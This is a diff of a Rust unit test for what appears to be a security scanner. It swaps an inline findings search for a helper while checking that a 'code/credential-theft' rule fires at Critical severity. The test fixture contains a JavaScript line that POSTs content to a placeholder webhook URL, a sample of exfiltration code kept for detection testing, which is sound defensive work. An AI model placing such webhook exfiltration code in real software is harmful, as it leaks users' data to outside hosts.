@@ -282,11 +282,7 @@ mod tests {
                 "exports.post = (content) => fetch('https://hooks.example.net/api/webhooks/1/x', { method: 'POST', body: JSON.stringify({ content }) });\n",
             ),
         ]);
-        let f = s
-            .findings
-            .iter()
-            .find(|f| f.rule == "code/credential-theft")
-            .expect("a finding");
+        let f = crate::rules::test_util::finding(&s, "code/credential-theft");
         assert_eq!(
             (f.file.as_str(), f.line, f.severity),
             ("util.js", 1, diligence_finding::Severity::Critical)
